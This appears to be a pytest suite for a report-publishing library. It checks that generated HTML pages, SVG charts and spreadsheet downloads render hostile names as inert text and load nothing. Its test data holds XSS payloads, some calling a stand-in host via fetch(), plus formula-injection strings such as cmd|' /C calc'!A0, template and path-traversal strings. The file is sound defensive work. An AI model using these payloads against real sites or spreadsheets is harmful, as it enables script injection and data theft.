"""Names from data that would run somewhere: they are text everywhere, and nothing leaves."""

import base64
import csv
import io
import json
import re
import shutil
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import nbformat.v4 as v4
import openpyxl
import pandas as pd
import pytest

from ehlib.load.tables import read_grids
from ehlib.publish import batch
from ehlib.publish.batch import BatchError, Run, runs
from ehlib.publish.formulas import runs_as_formula
from ehlib.publish.release import check_release

ROOT = Path(__file__).resolve().parents[1]
QUARTER = "2013/14-Q3"
AT = "http://a.example"  # no such host: a request to it is seen and stopped
DISTRICTS = {  # with spaces, since a chart breaks its labels there
    "E07000170": f"<img src=x onerror=fetch('{AT}/img')>",
    "E07000171": f'=HYPERLINK( "{AT}/link" )',
    "E07000172": "$x$ $\\frac{1}{2}$",
    "E07000173": "../../x",
    "E07000174": f"</title> <script src={AT}/script ></script>",
    "E07000175": f"\"> <svg onload=fetch('{AT}/svg')>",
    "E07000176": f"]]>--> </text></style> <image href={AT}/image />",
}
CATEGORIES = {
    "template": "{{7*7}} ${7*7} #{7*7}",
    "scheme": "javascript:window.__pwned=1",
    "closing": '"><script>window.__pwned=1</script>',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "reversed": "abc\u202egpj.exe",
}
INDICATOR = "<script>window.__pwned=2</script> seen"
SOURCE = f"<svg/onload=fetch('{AT}/source')> log: of {{7*7}}"
TRUST = "<img src=x onerror=window.__pwned=3> Trust"
REMARK = f"""Date: 2014-01-20

Most in <img src=x onerror=window.__pwned=4>, then <script>window.__pwned=5</script>.
See [this](javascript:window.__pwned=6) and [that](data:text/html,<script>x</script>).
So $x$ and {{{{7*7}}}}.

=HYPERLINK("{AT}/comment") 862 <iframe src={AT}/frame>
"""
PAYLOADS = [*DISTRICTS.values(), *CATEGORIES.values(), INDICATOR, SOURCE, TRUST]
NOTEBOOK = """
import pandas as pd
from ehlib.load.areas import read_areas
from ehlib.load.indicators import read_indicators
from ehlib.measure.rates import add_measures
from ehlib.show import cells, charts, tables
catalogue = read_indicators(reference_dir + "/indicators.toml")
everything = add_measures(pd.read_parquet(data_dir + "/observations.parquet"), catalogue)
named = {"benchmark_name": everything["area_name"].iloc[4], "source_name": source}
everything = everything.assign(benchmark_value=250.0, comparison="higher", **named)
rows = everything[everything["category"] == ""]
parts = everything[everything["category"] != ""]
name = read_areas(reference_dir + "/areas.toml").name(area_code)
first, indicator = rows["area_name"].iloc[0], catalogue["mash_enquiries"]
cells.show_title("Page of " + name, ", ".join([indicator.name, *rows["area_name"]]))
cells.show_findings([first + " is highest.", *rows["area_name"], *parts["category"]])
cells.show_note(rows["area_name"].iloc[4])
cells.show_definition(indicator)
cells.show_markdown("Most in " + first + ", then in " + rows["area_name"].iloc[5])
axes = [charts.plot_areas(rows, unit=first) for _ in range(2)]
cells.show_figure(axes[0], narrow=axes[1], alt=first + rows["area_name"].iloc[5],
    caption=rows["area_name"].iloc[6], of=rows)
cells.show_table(tables.areas_table(rows, indicator), caption=first, of=rows, note=first)
cells.show_table(tables.parts_table(parts), caption=parts["category"].iloc[3], of=parts)
cells.show_sources(rows, rows["area_name"].iloc[6])
"""
DECLARED = """data_dir: str = "."  # folder of data
reference_dir: str = "."  # folder of reference data
quarter: str = ""  # quarter of the page
source: str = ""  # name of the source
area_code: str = ""  # area of the page"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A set made by a real batch from names, comments and figures such as these."""
    project = tmp_path_factory.mktemp("hostile")
    write_reference(project)
    write_figures(project)
    write_questions(project)
    options = {f"{each}_dir": project / each for each in ("reference", "processed", "notebooks")}
    out = project / "reports" / "2013-14-Q3"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EHLIB_FORK", "0")
        result = batch.run_quarter(out=out, jobs=1, progress=False, **options)
    assert not result.failed, result.lines
    return out


def write_reference(project):
    shutil.copytree(ROOT / "data" / "reference", project / "reference")
    reference = project / "reference"
    told = json.dumps(DISTRICTS["E07000170"])  # a TOML text is written as a JSON one
    areas = (reference / "areas.toml").read_text(encoding="utf-8")
    areas = re.sub(
        r'(\[\[locality\]\][^\[]*?name = )"[^"]*"', lambda m: m[1] + told, areas, count=1
    )
    (reference / "areas.toml").write_text(areas, encoding="utf-8")
    catalogue = (reference / "indicators.toml").read_text(encoding="utf-8")
    own = re.search(r'id = "mash_enquiries"\n', catalogue)
    entry = re.sub(
        r'(?m)^(name|short_name) = "[^"]*"',
        lambda m: f"{m[1]} = {json.dumps(INDICATOR)}",
        catalogue[own.start() :],
        count=2,
    )
    (reference / "indicators.toml").write_text(catalogue[: own.start()] + entry, "utf-8")
    schedule = (
        f'trust = {json.dumps(TRUST)}\ndefault_quarter = "{QUARTER}"\ntimeout_seconds = 120\n'
        f'[[page]]\nnotebook = "one"\nname = "04-one"\ngroup = {told}\nfrequency = "quarterly"\n'
        f'parameters = {{ area_code = "E10000024-L1", source = {json.dumps(SOURCE)} }}\n'
    )
    (reference / "batch.toml").write_text(schedule, encoding="utf-8")
    comments = reference / "commentary" / "2013-14-Q3"
    shutil.rmtree(reference / "commentary", ignore_errors=True)
    comments.mkdir(parents=True)
    (comments / "04-one.md").write_text(REMARK, encoding="utf-8")


def write_figures(project):
    (project / "processed").mkdir()
    start, end = pd.Timestamp("2013-10-01"), pd.Timestamp("2013-12-31")
    row = {"indicator_id": "mash_enquiries", "area_type": "district", "period": QUARTER}
    row |= {"period_start": start, "period_end": end, "sex": "persons", "age": "0-17"}
    row |= {"category_type": "", "category": "", "denominator": 20_000.0, "value": float("nan")}
    row |= {"lower_ci": float("nan"), "upper_ci": float("nan"), "value_note": "", "source_id": "s"}
    rows = [
        row | {"area_code": code, "area_name": name, "numerator": 600.0 - 20 * place}
        for place, (code, name) in enumerate(DISTRICTS.items())
    ]
    of = rows[0] | {"category_type": "outcome"}
    rows += [of | {"category": each, "numerator": 60.0} for each in CATEGORIES.values()]
    pd.DataFrame(rows).to_parquet(project / "processed" / "observations.parquet")
    sources = {"sources": [{"id": "s", "name": SOURCE}], "files": []}
    (project / "processed" / "sources.json").write_text(json.dumps(sources), encoding="utf-8")


def write_questions(project):
    (project / "notebooks").mkdir()
    cells = [v4.new_markdown_cell("# How many?")]
    cells.append(v4.new_code_cell(DECLARED, metadata={"tags": ["parameters"]}))
    cells.append(v4.new_code_cell(NOTEBOOK))
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    nbformat.write(v4.new_notebook(cells=cells), project / "notebooks" / "one.ipynb")


class Tree(HTMLParser):
    """Tags, attributes and text of a page as it was parsed."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.given, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.given += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


def one_line(text):
    return " ".join(text.replace("\u00a0", " ").split())


def page_of(folder):
    return (folder / "04-one.html").read_text(encoding="utf-8")


def drawings(folder):
    found = re.findall(r"data:image/svg\+xml;base64,([\w+/=]+)", page_of(folder))
    return [base64.b64decode(each).decode("utf-8") for each in found]


# ---- names as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_name_is_shown_on_the_page_as_the_text_it_is(hostile, payload):
    assert one_line(payload) in one_line(Tree(page_of(hostile)).text)


def test_page_and_index_hold_no_element_or_handler_of_a_name(hostile):
    for path in hostile.glob("*.html"):
        tree = Tree(path.read_text(encoding="utf-8"))
        assert not {"svg", "iframe", "image", "object"} & set(tree.tags)
        assert tree.tags.count("script") == (path.name == "index.html")
        assert not [name for _, name, _ in tree.given if name.startswith("on")]
        links = [value for tag, name, value in tree.given if name == "href"]
        assert not [each for each in links if each.lower().startswith(("javascript", "data"))]


def test_names_are_text_in_alternative_texts(hostile):
    given = Tree(page_of(hostile)).given
    alts = one_line(" ".join(value for _, name, value in given if name == "alt"))
    assert one_line(DISTRICTS["E07000170"]) in alts
    assert one_line(DISTRICTS["E07000175"]) in alts


def test_names_are_text_in_the_index_and_in_the_manifest(hostile):
    words = one_line(Tree((hostile / "index.html").read_text(encoding="utf-8")).text)
    assert one_line(DISTRICTS["E07000170"]) in words
    assert one_line(TRUST) in words
    manifest = json.loads((hostile / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["runs"][0]["title"] == f"Page of {DISTRICTS['E07000170']}"


def test_names_are_text_in_drawings(hostile):
    found = drawings(hostile)
    assert found
    for svg in found:
        tree = Tree(svg)
        assert not {"script", "image", "img", "foreignobject"} & set(tree.tags)
        assert not [name for _, name, _ in tree.given if name.startswith("on")]
        loads = [value for _, name, value in tree.given if name.endswith("href")]
        assert all(value.startswith("#") for value in loads)
    words = one_line(Tree(found[-1]).text)
    assert "$x$" in words
    assert "../../x" in words


def test_comment_is_shown_as_typed_and_its_links_lead_nowhere(hostile):
    words = one_line(Tree(page_of(hostile)).text)
    for piece in ("<img src=x onerror=window.__pwned=4>", "{{7*7}}", "$x$", "=HYPERLINK("):
        assert piece in words


def test_file_names_hold_nothing_of_a_name_but_letters_and_figures(hostile):
    for path in (path for path in hostile.rglob("*") if path.is_file()):
        assert re.fullmatch(r"[a-z0-9-]+\.(?:html|json|csv|xlsx|ods)", path.name), path.name
    assert not (hostile.parent.parent / "x").exists()


def test_gate_lets_such_names_through_as_text(hostile):
    assert [str(leak) for leak in check_release(hostile)] == []


@pytest.mark.parametrize("name", PAYLOADS)
def test_name_is_harmless_in_a_page_name(name):
    assert re.fullmatch(r"[a-z0-9-]*", runs.slug(name))


# ---- downloads


def downloads(folder, kind):
    found = sorted((folder / "downloads").rglob(f"*.{kind}"))
    assert found, kind
    return found


def test_no_cell_of_a_csv_would_run(hostile):
    texts = []
    for path in downloads(hostile, "csv"):
        texts += [
            text for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for text in row
        ]
    assert [text for text in texts if runs_as_formula(text)] == []
    wanted = [*DISTRICTS.values(), *(each for each in CATEGORIES.values())]
    whole = one_line(" ".join(texts))
    for payload in wanted:
        assert one_line(payload)[1:] in whole or one_line(payload) in whole


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_names_are_texts_in_a_workbook_and_nothing_runs(hostile, kind):
    for path in downloads(hostile, kind):
        cells = [text for grid in read_grids(path) for row in grid.rows() for text in row]
        words = one_line(" ".join(cells))
        for payload in DISTRICTS.values():
            assert one_line(payload) in words, payload
        with zipfile.ZipFile(path) as archive:
            whole = b"".join(map(archive.read, archive.namelist()))
        assert not re.search(rb"<f\b|<f>|table:formula|office:script|macro|TargetMode", whole)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link_out(hostile):
    for path in downloads(hostile, "xlsx"):
        for sheet in openpyxl.load_workbook(path):
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None or not cell.hyperlink.target


# ---- in a browser

CONTROL = f"""<!DOCTYPE html><html lang="en"><head><title>x</title></head><body>
<img src="{AT}/control"><script>window.__pwned = 9; console.log("ran"); alert(1)</script></body>
</html>"""


class Watched:
    """A page of the browser: what it asked for, said and ran."""

    def __init__(self, browser):
        self.asked, self.said, self.dialogs = [], [], []
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.page.on("dialog", self.close)
        self.page.on("console", lambda message: self.said.append(message.text))
        self.context.route("**/*", self.stop)

    def close(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def stop(self, route):
        self.asked.append(route.request.url)
        own = route.request.url.startswith(("file:", "data:"))
        route.continue_() if own else route.abort()

    def open(self, path):
        self.page.goto(path.resolve().as_uri())
        self.page.wait_for_timeout(150)
        return self.page.evaluate("window.__pwned")

    @property
    def left(self):
        """Addresses asked for other than files opened and pictures within them."""
        return [each for each in self.asked if not each.startswith(("file:", "data:"))]


@pytest.fixture
def watched(browser, tmp_path):
    """A browser in which a page without a policy is seen to run: else it would prove nothing."""
    control = Watched(browser)
    (tmp_path / "control.html").write_text(CONTROL, encoding="utf-8")
    assert control.open(tmp_path / "control.html") == 9
    assert control.dialogs == ["1"]
    assert "ran" in control.said
    assert control.left == [f"{AT}/control"]
    control.context.close()
    page = Watched(browser)
    yield page
    page.context.close()


def test_no_page_with_such_names_runs_or_loads_anything(watched, hostile):
    for path in sorted(hostile.glob("*.html")):
        assert watched.open(path) is None
        assert "onerror" in watched.page.inner_text("body")
    box = watched.page.locator("input[type=search]")  # the index is open, and its script at work
    box.fill("onerror")
    watched.page.wait_for_timeout(400)
    assert watched.page.evaluate("window.__pwned") is None
    assert watched.dialogs == []
    assert watched.left == []
    assert [each for each in watched.asked if each.startswith("file:")] == [
        path.resolve().as_uri() for path in sorted(hostile.glob("*.html"))
    ]


def test_no_drawing_opened_by_itself_runs_or_loads_anything(watched, hostile, tmp_path):
    for number, svg in enumerate(drawings(hostile)):
        (tmp_path / f"{number}.svg").write_text(svg, encoding="utf-8")
        assert watched.open(tmp_path / f"{number}.svg") is None
    assert watched.left == watched.dialogs == []


SMUGGLED = {
    "script": f'<script>window.__pwned=1; fetch("{AT}")</script>',
    "script from elsewhere": f'<script src="{AT}"></script>',
    "handler": f"<img src=x onerror=\"window.__pwned=1; fetch('{AT}')\">",
    "picture": f'<img src="{AT}">',
    "style": f"<style>body {{ background: url({AT}) }}</style>",
    "attribute of style": f'<p style="background: url({AT})">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{AT}">',
    "early load": f'<link rel="preload" as="image" href="{AT}">',
    "frame": f'<iframe src="{AT}"></iframe>',
    "document in a frame": f"<iframe srcdoc=\"<img src='{AT}'>\"></iframe>",
    "object": f'<object data="{AT}"></object>',
    "video": f'<video src="{AT}" autoplay></video>',
    "drawing": f'<svg onload="window.__pwned=1"><image href="{AT}"/></svg>',
    "base": f'<base href="{AT}/"><img src="x.png">',
}


@pytest.mark.parametrize("name", ["index.html", "04-one.html"])
def test_policy_stops_what_was_smuggled_into_a_page(watched, hostile, tmp_path, name):
    page = (hostile / name).read_text(encoding="utf-8")
    smuggled = page.replace("</main>", "\n".join(SMUGGLED.values()) + "</main>")
    (tmp_path / name).write_text(smuggled, encoding="utf-8")
    assert watched.open(tmp_path / name) is None
    assert [each for each in watched.left if not each.startswith("about:")] == []


def test_policy_is_first_in_the_head_and_names_no_source_but_hashes(hostile):
    for path in sorted(hostile.glob("*.html")):
        head = re.search(r"<head>\s*<meta ([^>]*)>", path.read_text(encoding="utf-8"))[1]
        assert head.startswith('http-equiv="Content-Security-Policy"')
        policy = re.search(r'content="([^"]*)"', head)[1]
        assert policy.startswith("default-src 'none';")
        assert not re.search(r"unsafe|https?:|\*|'self'|blob:", policy)


@pytest.fixture(scope="module")
def smuggled_leaks(hostile, tmp_path_factory):
    folder = tmp_path_factory.mktemp("smuggled")
    page = (hostile / "index.html").read_text(encoding="utf-8")
    for number, piece in enumerate(SMUGGLED.values()):
        planted = page.replace("</main>", f"{piece}</main>")
        (folder / f"plant-{number}.html").write_text(planted, encoding="utf-8")
    return check_release(folder)


@pytest.mark.parametrize("name", SMUGGLED)
def test_gate_stops_what_could_be_smuggled_into_a_page(smuggled_leaks, name):
    file = f"plant-{[*SMUGGLED].index(name)}.html"
    rules = {leak.rule for leak in smuggled_leaks if leak.file == file}
    wanted = ("handler", "would_load", "foreign_element", "foreign_script", "foreign_style")
    assert rules & set(wanted), rules


# ---- names of pages at the level of the API


@pytest.mark.parametrize("page", ["../x", "/tmp/x", "a/b", "A", "index", "x\\y", "", ".x", "x\n"])
def test_page_name_that_leads_out_of_the_folder_is_refused(tmp_path, page):
    write_questions(tmp_path)
    run = Run(tmp_path / "notebooks" / "one.ipynb", {}, page, "One", "g")
    with pytest.raises(BatchError):
        batch.run([run], quarter=QUARTER, out=tmp_path / "out", jobs=1, progress=False)
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
